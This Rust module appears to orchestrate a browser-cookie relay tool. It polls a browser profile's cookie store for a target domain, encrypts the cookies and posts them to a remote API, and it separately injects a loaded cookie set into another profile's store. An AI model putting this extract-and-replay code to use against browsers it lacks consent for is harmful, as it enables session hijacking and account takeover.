//! Pipeline orchestration: the polling extraction loop and the one-shot
//! injection path.

use std::fs;
use std::time::Instant;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;

use crate::config::{CookieSource, ExtractConfig, InjectConfig};
use crate::crypto;
use crate::delivery::DeliveryClient;
use crate::error::{RelayError, Result};
use crate::store::{self, CookieSet};

/// Poll the cookie store until the target domain's cookies appear and are
/// delivered, or the timeout elapses.
///
/// The deadline is wall-clock, checked before each iteration; an iteration
/// already in flight completes. An attempt either posts the whole captured
/// set or retries; nothing is delivered partially.
pub async fn run_extraction(config: &ExtractConfig) -> Result<()> {
    let key = crypto::derive_key(&config.encryption_key);
    let client = DeliveryClient::new(&config.api_url, &config.gateway)?;
    log::info!(
        "Waiting for cookies for domain {} (timeout {}s, interval {}s)",
        config.target_domain,
        config.timeout.as_secs(),
        config.poll_interval.as_secs()
    );

    let started = Instant::now();
    while started.elapsed() < config.timeout {
        let cookies = store::read_cookies(
            config.variant,
            &config.paths,
            config.profile.as_deref(),
            &config.target_domain,
        )?;
        if !cookies.is_empty() {
            log::info!(
                "Found {} cookies for {}",
                cookies.len(),
                config.target_domain
            );
            let payload = serde_json::to_vec(&cookies)?;
            let token = crypto::encrypt(&payload, &key)?;
            if client
                .deliver(&config.session_id, &config.secret, &token)
                .await
            {
                log::info!("Cookies delivered, exiting");
                return Ok(());
            }
        }
        tokio::time::sleep(config.poll_interval).await;
    }
    Err(RelayError::Timeout)
}

/// Load a cookie set and upsert it into the target profile's store in one
/// shot. Returns the number of rows written.
pub fn run_injection(config: &InjectConfig) -> Result<usize> {
    let cookies = load_cookie_set(&config.source)?;
    log::info!("Loaded {} cookies for injection", cookies.len());
    let written = store::write_cookies(
        config.variant,
        &config.paths,
        config.profile.as_deref(),
        &cookies,
    )?;
    log::info!("Injected {} cookies", written);
    Ok(written)
}

/// Decode an injection payload from a JSON file or an inline base64 blob.
pub fn load_cookie_set(source: &CookieSource) -> Result<CookieSet> {
    match source {
        CookieSource::File(path) => {
            let data = fs::read_to_string(path).map_err(|e| {
                RelayError::Input(format!("Failed to read cookies file {:?}: {}", path, e))
            })?;
            Ok(serde_json::from_str(&data)?)
        }
        CookieSource::InlineBase64(encoded) => {
            let decoded = BASE64.decode(encoded.trim()).map_err(|e| {
                RelayError::Input(format!("Invalid base64 cookies payload: {}", e))
            })?;
            Ok(serde_json::from_slice(&decoded)?)
        }
    }
}
